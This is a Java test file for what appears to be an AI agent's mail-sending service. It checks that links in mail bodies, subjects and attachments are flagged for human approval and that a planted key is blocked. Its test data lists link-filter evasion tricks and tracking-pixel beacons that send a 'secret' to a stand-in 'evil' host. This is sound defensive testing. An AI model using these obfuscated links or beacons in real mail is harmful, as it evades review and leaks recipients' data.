package dev.agentmailbox.service.sending;

import static dev.agentmailbox.fixture.SendingFixture.mail;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.agentmailbox.fixture.Refusals;
import dev.agentmailbox.fixture.SendingFixture;
import dev.agentmailbox.sending.SendStatus;
import dev.agentmailbox.service.sending.release.CheckReport;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the flag {@code has_links} sees: everything a recipient's program could fetch or follow. */
class LinkFlagTest {
  private final SendingFixture fixture = new SendingFixture();

  @BeforeEach
  void links_need_approval() {
    fixture.askForApproval("has_links");
  }

  // spec Decisions.2
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a href=\"https://evil.example/x\">invoice</a>",
        "<a href=\"h&#116;tps://evil.example/steal\">invoice</a>",
        "<a href=\"//evil.example/x\">invoice</a>",
        "<a href=\"https:\\\\evil\">invoice</a>",
        "<a href=\"https:/evil\">invoice</a>",
        "<a href=\"ht\ntps://evil/\">invoice</a>",
        "<a href=\"&#1;&Tab;ht&NewLine;tps:evil\">invoice</a>",
        "<a href=\"mailto:thief\">invoice</a>",
        "<a href=\"tel:+15550100\">invoice</a>",
        "<a href=\"data:text/html,x\">invoice</a>",
        "<A HREF=ftp:files>invoice</A>",
        "<area href=x>",
        "<img src=\"h&#116;tps://evil/p.gif?d=secret\">",
        "<img src=\"cid:a\" srcset=\"cid:b 1x, //evil/p 2x\">",
        "<img lowsrc=//evil/p>",
        "<video poster=//evil/p></video>",
        "<table background=\"//evil/p\"><tr><td>x</table>",
        "<object data=//evil/p></object>",
        "<form action=\"h&#x74;tps://evil/\"><input></form>",
        "<button formaction=//evil>x</button>",
        "<base href=//evil/><a href=\"#x\">x</a>",
        "<link rel=stylesheet href=//evil/s>x",
        "<iframe srcdoc=\"<p>x\"></iframe>",
        "<blockquote cite=//evil>x</blockquote>",
        "<meta http-equiv=refresh content=\"0;url=//evil\">x",
        "<meta itemprop=url content=\"ht&#116;ps://evil\">x",
        "<p style=\"background:url(//evil/p)\">x</p>",
        "<p style='background:\\75 rl(\"//evil/p\")'>x</p>",
        "<p style=\"background:image-set('cid:a' 1x, '//evil' 2x)\">x</p>",
        "<p style=\"a:'/*';background:url(//evil);b:'*/'\">x</p>",
        "<style>@import '//evil/s';</style>x",
        "<style>p { background: url( '//evil/p' ) }</style>x",
        "<svg><image xlink:href=//evil /></svg>",
        "<svg><rect fill=\"url(//evil#p)\"/></svg>",
        "<svg><style>p{fill:url(//evil)}</style></svg>",
        "<svg><a><set attributeName=href to=//evil />x</a></svg>",
        "<v:roundrect href=//evil>x</v:roundrect>",
        "<!--[if mso]><a href=\"//evil\">x</a><![endif]--><p>x",
        "<script type=application/ld+json>{}</script>x",
        "<p onclick=go()>x</p>",
        "<p>see <b>evil</b>.com</p>",
        "<p>evil&#46;com</p>"
      })
  void html_a_program_could_fetch_from_or_follow_waits_for_a_human(String html) {
    assertEquals(
        List.of("has_links"), withoutContact(fixture.submit(mail().html("<p>Hello " + html))));
  }

  // spec Decisions.2
  @ParameterizedTest
  @ValueSource(
      strings = {
        "see https://evil/x",
        "see HTTPS:\\\\evil",
        "see evil.example/login",
        "see evil.com",
        "evil.co.uk, or so",
        "(evil.com).",
        "go to пример.рф now",
        "go to evil\u3002com now",
        "go to evil\u00ad.com now",
        "go to xn--e1afmkfd.xn--p1ai",
        "mailto:thief",
        "ftp://files",
        "www.evil",
        "call 192.0.2.1/x",
        "thief@evil.com/login"
      })
  void text_and_subject_with_a_link_wait_for_a_human(String words) {
    assertEquals(List.of("has_links"), withoutContact(fixture.submit(mail().text(words))));
    assertEquals(List.of("has_links"), withoutContact(fixture.submit(mail().subject(words))));
    assertEquals(List.of("has_links"), withoutContact(fixture.submit(mail().html(words))));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD\" \"http://www.w3.org/TR/xhtml1.dtd\">"
            + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><p>x",
        "<p style=\"color: red; background: url(cid:part1)\">version 1.0 of file.conf</p>",
        "<a href=\"#top\">up</a> <a name=top></a> <img src=\"CID:logo@x\">",
        "<!-- https://example.com/ --><p>x",
        "Mr. Smith, i.e. bob@example.com, at 3.15 p.m. e.g. 1.2.3.4.",
        "<a href=\"\">x</a>"
      })
  void mail_that_leads_nowhere_leaves(String html) {
    String sendId = fixture.submit(mail().html(html)).sendId();
    assertFalse(fixture.get(sendId).findings().flags().contains("has_links"));
  }

  @Test
  void files_of_text_are_read_as_well() {
    for (String type : List.of("text/html; charset=utf-8", "image/svg+xml")) {
      AttachmentInput file =
          AttachmentInput.of(
              type, type, "<a href=&#47;/evil>x</a>".getBytes(StandardCharsets.UTF_8));
      assertEquals(
          List.of("has_links", "has_attachments"),
          withoutContact(fixture.submit(mail().attach(file))));
    }
    AttachmentInput note =
        AttachmentInput.of("a", "text/plain", "go to evil.com".getBytes(StandardCharsets.UTF_8));
    assertEquals(
        List.of("has_links", "has_attachments"),
        withoutContact(fixture.submit(mail().attach(note))));
  }

  private static final String PAGE = "<p>see <a href=//evil/x>this</a></p>";

  /** name, declared type, content */
  static Stream<Arguments> filesWithLinks() throws IOException {
    String mail = "Subject: x\r\nContent-Type: text/html\r\n\r\n" + PAGE;
    String forwarded = "Subject: y\r\nContent-Type: message/rfc822\r\n\r\n" + mail;
    String relations = "<Relationship Target=\"https://evil\" TargetMode=\"External\"/>";
    byte[] packed = deflated("<</S/URI/URI(https://evil)>>");
    return Stream.of(
        Arguments.of("a.html", "application/octet-stream", bytes(PAGE)),
        Arguments.of("a", "application/octet-stream", bytes(PAGE)),
        Arguments.of("a.png", "image/png", bytes(PAGE)),
        Arguments.of("a.xhtml", "application/xml", bytes(PAGE)),
        Arguments.of("a.svg", "image/svg", bytes("<svg><image xlink:href='//evil'/></svg>")),
        Arguments.of("a.ics", "application/ics", bytes("BEGIN:VCALENDAR\nURL:https://evil\n")),
        Arguments.of("a.bin", "application/x-unknown", bytes("go to https://evil/x")),
        Arguments.of(
            "a.txt", "text/plain", "go to https://evil/x".getBytes(StandardCharsets.UTF_16)),
        Arguments.of("a.txt", "text/plain", "https://evil/x".getBytes(StandardCharsets.UTF_16LE)),
        Arguments.of("a.html", "text/html", bytes("<!--" + "x".repeat(1 << 20) + "-->" + PAGE)),
        Arguments.of("a.txt", "text/plain", bytes("x ".repeat(1 << 19) + "and more")),
        Arguments.of("a.txt", "text/plain; charset=utf-7", bytes("go to https+ADo-//evil")),
        Arguments.of("a", "message/external-body; access-type=URL", bytes("Content-Type: a/b")),
        Arguments.of("", "message/rfc822", bytes(mail)),
        Arguments.of("a.eml", "application/octet-stream", bytes(mail)),
        Arguments.of("a.eml", "message/rfc822", bytes(forwarded)),
        Arguments.of("a.pdf", "application/pdf", bytes("%PDF-1.4\n<</S/URI/URI(https://evil)>>")),
        Arguments.of(
            "a.pdf",
            "application/pdf",
            joined(bytes("%PDF-1.5\n<</Type/ObjStm/Filter/FlateDecode>>stream\r\n"), packed)),
        Arguments.of("a.docx", "application/x", zip("word/_rels/document.xml.rels", relations)));
  }

  @ParameterizedTest(name = "{0} {1}")
  @MethodSource("filesWithLinks")
  void a_link_in_a_file_is_seen_whatever_its_declared_type(String name, String type, byte[] file) {
    assertEquals(
        List.of("has_links", "has_attachments"),
        withoutContact(fixture.submit(mail().attach(AttachmentInput.of(name, type, file)))));
  }

  @Test
  void messages_nested_too_deeply_count_as_a_link() {
    String mail = "Subject: x\r\n\r\nplain\r\n";
    for (int i = 0; i < 3; i++) {
      mail = "Subject: y\r\nContent-Type: message/rfc822\r\n\r\n" + mail;
    }
    assertEquals(SendStatus.SENDING, attached(mail).status());
    mail = "Subject: y\r\nContent-Type: message/rfc822\r\n\r\n" + mail;
    assertEquals(SendStatus.PENDING_APPROVAL, attached(mail).status());
  }

  private SendResult attached(String message) {
    return fixture.submit(
        mail().attach(AttachmentInput.of("a.eml", "message/rfc822", bytes(message))));
  }

  /** name, declared type, content */
  static Stream<Arguments> filesWithoutLinks() throws IOException {
    byte[] noise = new byte[3 << 20];
    new Random(7).nextBytes(noise);
    return Stream.of(
        Arguments.of("a.png", "image/png", joined(bytes("\u0089PNG\r\n\u001a\n"), noise)),
        Arguments.of("a.jpg", "image/jpeg", joined(bytes("\u00ff\u00d8\u00ff\u00e0"), noise)),
        Arguments.of("a.pdf", "application/pdf", bytes("%PDF-1.4\n<</Type/Catalog>>")),
        Arguments.of("a.csv", "text/csv", bytes("a,b\n1,2\n")),
        Arguments.of("a.docx", "application/x", zip("word/document.xml", "<w:t>Hello</w:t>")),
        Arguments.of("a.eml", "message/rfc822", bytes("Subject: x\r\n\r\nHello\r\n")),
        Arguments.of("a.txt", "text/plain", bytes("x < y and y > z")));
  }

  @ParameterizedTest(name = "{0} {1}")
  @MethodSource("filesWithoutLinks")
  void a_file_without_a_link_is_not_flagged(String name, String type, byte[] file) {
    assertEquals(
        SendStatus.SENDING,
        fixture.submit(mail().attach(AttachmentInput.of(name, type, file))).status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<xmp>https://evil.example/login</xmp>",
        "<noembed><a href=//evil>x</a></noembed>",
        "<noframes>https://evil.example/</noframes>x",
        "<noscript><a href=//evil>x</a></noscript>",
        "<p>x</p><plaintext>https://evil.example/",
        "<textarea>https://evil.example/</textarea>",
        "<!--[if mso]><xmp>https://evil.example/</xmp><![endif]--><p>x"
      })
  void links_in_elements_of_raw_text_are_seen(String html) {
    assertEquals(List.of("has_links"), withoutContact(fixture.submit(mail().html(html))));
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] joined(byte[] first, byte[] second) {
    byte[] both = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }

  private static byte[] deflated(String text) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (DeflaterOutputStream deflater = new DeflaterOutputStream(out)) {
      deflater.write(bytes(text));
    }
    return out.toByteArray();
  }

  private static byte[] zip(String name, String content) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
      zip.putNextEntry(new ZipEntry(name));
      zip.write(bytes(content));
    }
    return out.toByteArray();
  }

  @Test
  void more_pieces_of_conditional_html_than_are_read_count_as_a_link() {
    String piece = "<!--[if mso]><br><![endif]-->";
    assertEquals(
        SendStatus.SENDING, fixture.submit(mail().html("<p>x" + piece.repeat(100))).status());
    assertEquals(
        List.of("has_links"),
        withoutContact(fixture.submit(mail().html("<p>x" + piece.repeat(101)))));
  }

  @Test
  void a_link_anywhere_in_a_long_text_is_seen() {
    for (int before : List.of(65_530, 65_536, 131_070)) {
      String text = "\ufdfa".repeat(before) + " evil.com";
      assertEquals(List.of("has_links"), withoutContact(fixture.submit(mail().text(text))));
    }
  }

  @Test
  void the_dry_run_sees_the_same() {
    MailInput command = mail().html("<a href=&#47;/evil>x</a>").build();
    CheckReport approval = fixture.sends.check(SendingFixture.CALLER, command).checks().get(11);
    assertTrue(approval.flags().contains("has_links"));
  }

  @Test
  void secrets_in_values_of_attributes_are_seen() {
    String html = "<p title=\"AKIA&#65;BCDEFGHIJKLMNOP\">x</p>";
    assertEquals(
        List.of("secret_detected"), Refusals.blockedFor(() -> fixture.submit(mail().html(html))));
    assertEquals(
        List.of("secret_detected"),
        Refusals.blockedFor(
            () -> fixture.submit(mail().html("<!--[if mso]>" + html + "<![endif]-->x"))));
  }

  private static List<String> withoutContact(SendResult result) {
    assertEquals(SendStatus.PENDING_APPROVAL, result.status());
    return result.flags().stream()
        .filter(flag -> !List.of("first_contact", "html_unfaithful").contains(flag))
        .toList();
  }
}
